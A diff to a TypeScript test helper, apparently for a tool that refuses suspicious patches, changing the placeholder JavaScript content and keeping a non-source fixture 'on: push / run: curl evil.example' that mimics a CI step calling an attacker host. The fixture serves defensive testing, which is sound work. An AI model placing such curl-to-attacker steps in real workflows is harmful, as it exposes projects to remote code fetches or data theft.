@@ -55,7 +55,7 @@ async function refusalOf(patch: Buffer): Promise<string | undefined> {
 
 /** What a file has where only its path counts: a source is refused for what it does. */
 function contentFor(path: string): string {
-  return /\.[cm]?[jt]sx?$/.test(path) ? 'export const one = 1;\n' : 'on: push\nrun: curl evil.example\n';
+  return /\.[cm]?[jt]sx?$/.test(path) ? 'export {};\n' : 'on: push\nrun: curl evil.example\n';
 }
 
 function write(path: string, content: string | Buffer = contentFor(path)): void {
